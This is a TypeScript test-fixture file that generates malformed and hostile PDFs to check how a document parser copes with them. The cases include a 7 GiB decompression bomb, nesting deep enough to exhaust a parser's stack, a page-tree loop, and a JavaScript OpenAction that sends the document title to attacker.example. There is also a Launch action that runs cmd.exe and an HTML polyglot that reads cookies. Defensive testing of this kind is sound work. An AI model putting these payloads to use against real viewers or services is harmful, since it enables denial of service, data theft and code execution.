/** Malformed and hostile PDFs, written as raw PDF syntax. */
import { deflateSync } from 'node:zlib';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { concatBytes, latin1, type MaliciousCase } from './case.js';
import { createEncryption } from './pdf-encryption.js';
import { buildPdf, RESUME_CONTENT, simpleResumeObjects, stream } from './pdf-writer.js';

export const VALID_PDF = buildPdf({ objects: simpleResumeObjects() });

function encryptedPdf(userPassword: string): Uint8Array {
  const encryption = createEncryption({ userPassword, ownerPassword: 'owner-secret' });
  const objects = simpleResumeObjects();
  objects[4] = stream('', encryption.encryptObject(5, latin1(RESUME_CONTENT)));
  objects.push(encryption.dictionary);
  return buildPdf({ objects, trailerExtra: `/Encrypt 6 0 R ${encryption.idEntry}` });
}

async function manyPagesPdf(count: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const first = doc.addPage([612, 792]);
  RESUME_CONTENT.split('\n').forEach((line, index) => {
    const text = /\((.*)\)/.exec(line)?.[1] ?? '';
    first.drawText(text, { x: 72, y: 720 - index * 20, size: 10, font });
  });
  for (let n = 1; n < count; n++) doc.addPage([612, 792]);
  doc.setCreationDate(new Date(0));
  doc.setModificationDate(new Date(0));
  return doc.save({ useObjectStreams: true });
}

/** A content stream of 1 GiB of spaces, FlateDecoded twice: a few KiB on disk. */
function doubleFlateBomb(): Uint8Array {
  const once = deflateSync(Buffer.alloc(1024 * 1024 * 1024, 0x20), { level: 9 });
  return new Uint8Array(deflateSync(once, { level: 9 }));
}

function pageTree(kids: string, count: number) {
  const objects = simpleResumeObjects();
  objects[1] = `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`;
  return objects;
}

export async function pdfCases(): Promise<MaliciousCase[]> {
  const deepArrays = simpleResumeObjects();
  deepArrays[0] = `<< /Type /Catalog /Pages 2 0 R /Deep ${'['.repeat(100_000)}${']'.repeat(100_000)} >>`;
  const deepDicts = simpleResumeObjects();
  const deepContent = `/Span ${'<</A '.repeat(100_000)}${'>>'.repeat(100_000)} BDC\n${RESUME_CONTENT}\nEMC`;
  deepDicts[4] = stream('/Filter /FlateDecode', new Uint8Array(deflateSync(latin1(deepContent))));
  const bomb = simpleResumeObjects();
  bomb[1] = '<< /Type /Pages /Kids [3 0 R 7 0 R 8 0 R] /Count 3 >>';
  bomb[2] =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents [5 0 R 6 0 R] >>';
  bomb.push(
    stream('/Filter [/FlateDecode /FlateDecode]', doubleFlateBomb()),
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [6 0 R 6 0 R 6 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [6 0 R 6 0 R 6 0 R] >>',
  );
  const scripted = simpleResumeObjects();
  scripted[0] =
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(boot) 6 0 R] >> >> >>';
  scripted[2] = scripted[2]!
    .toString()
    .replace('/Contents 5 0 R', '/Contents 5 0 R /Annots [7 0 R]');
  scripted.push(
    '<< /S /JavaScript /JS (app.launchURL\\("http://attacker.example/steal?c=" + this.info.Title, true\\);) >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 700 300 712] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
  );
  const lengthLie = simpleResumeObjects();
  lengthLie[4] = `<< /Length 999999 >>\nstream\n${RESUME_CONTENT}\nendstream`;
  const { docxBytesForPolyglot } = await import('./docx-cases.js');

  return [
    {
      file: 'truncated-header.pdf',
      description: 'A valid PDF cut after 60 bytes: header and half a catalog, nothing else.',
      expect: { error: 'PDF_CORRUPT' },
      bytes: VALID_PDF.subarray(0, 60),
    },
    {
      file: 'truncated-half.pdf',
      description: 'A valid PDF cut in half: no xref, no trailer, content stream cut off.',
      expect: { accept: ['result', 'PDF_CORRUPT'] },
      bytes: VALID_PDF.subarray(0, Math.floor(VALID_PDF.length / 2)),
    },
    {
      file: 'corrupt-xref.pdf',
      description:
        'Every xref offset is off by 13 bytes; a reader must rebuild the xref by scanning.',
      expect: { result: true },
      bytes: buildPdf({ objects: simpleResumeObjects(), mapOffset: (offset) => offset + 13 }),
    },
    {
      file: 'stream-length-lie.pdf',
      description: 'The content stream declares /Length 999999, far past the end of the file.',
      expect: { result: true },
      bytes: buildPdf({ objects: lengthLie }),
    },
    {
      file: 'encrypted-password.pdf',
      description: 'RC4-40 encrypted (Standard handler R2) with user password "secret".',
      expect: { error: 'PDF_PASSWORD_REQUIRED' },
      bytes: encryptedPdf('secret'),
    },
    {
      file: 'encrypted-empty-password.pdf',
      description:
        'Encrypted with an empty user password (owner password only): opens, and is flagged.',
      expect: { result: true, diagnostic: 'pdf.encrypted' },
      bytes: encryptedPdf(''),
    },
    {
      file: 'pages-5000.pdf',
      description:
        'A 5,000-page PDF (object streams keep it small); only the first 50 pages may be read.',
      expect: { result: true, diagnostic: 'doc.pages-truncated', pagesAnalyzed: 50 },
      bytes: await manyPagesPdf(5000),
    },
    {
      file: 'huge-page-count.pdf',
      description: 'The page tree declares /Count 2000000000 but holds one page.',
      expect: { result: true },
      bytes: buildPdf({ objects: pageTree('3 0 R', 2_000_000_000) }),
    },
    {
      file: 'page-tree-loop.pdf',
      description:
        'The page tree root lists itself as its only kid: an infinite loop for a naive walker.',
      expect: { error: 'PDF_CORRUPT' },
      bytes: buildPdf({ objects: pageTree('2 0 R', 1) }),
    },
    {
      file: 'deep-nested-arrays.pdf',
      description:
        'The catalog holds an array nested 100,000 deep (stack exhaustion in a recursive parser).',
      expect: { error: 'PDF_CORRUPT' },
      bytes: buildPdf({ objects: deepArrays }),
    },
    {
      file: 'deep-nested-dicts.pdf',
      description: 'The content stream opens with a marked-content dictionary nested 100,000 deep.',
      expect: { accept: ['result', 'PDF_CORRUPT'] },
      bytes: buildPdf({ objects: deepDicts }),
    },
    {
      file: 'flate-bomb.pdf',
      description:
        'A double-FlateDecoded content stream inflating to 1 GiB of spaces, referenced 7 times over 3 pages (7 GiB logical).',
      expect: { error: 'ARCHIVE_LIMIT_EXCEEDED' },
      bytes: buildPdf({ objects: bomb }),
    },
    {
      file: 'javascript-openaction.pdf',
      description:
        'OpenAction, document-level and page-close JavaScript plus a Launch action annotation.',
      expect: { result: true },
      bytes: buildPdf({ objects: scripted }),
    },
    {
      file: 'polyglot-pdf-zip.pdf',
      description: 'A valid PDF with a complete DOCX (ZIP) appended after %%EOF.',
      expect: { result: true },
      bytes: concatBytes([VALID_PDF, docxBytesForPolyglot()]),
    },
    {
      file: 'polyglot-pdf-html.pdf',
      description:
        'A PDF whose first comment is an HTML page with a script (renders as HTML if sniffed as such).',
      expect: { result: true },
      bytes: buildPdf({
        objects: simpleResumeObjects(),
        header: '%PDF-1.7\n%<html><body><script>alert(document.cookie)</script></body></html>\n',
      }),
    },
  ];
}
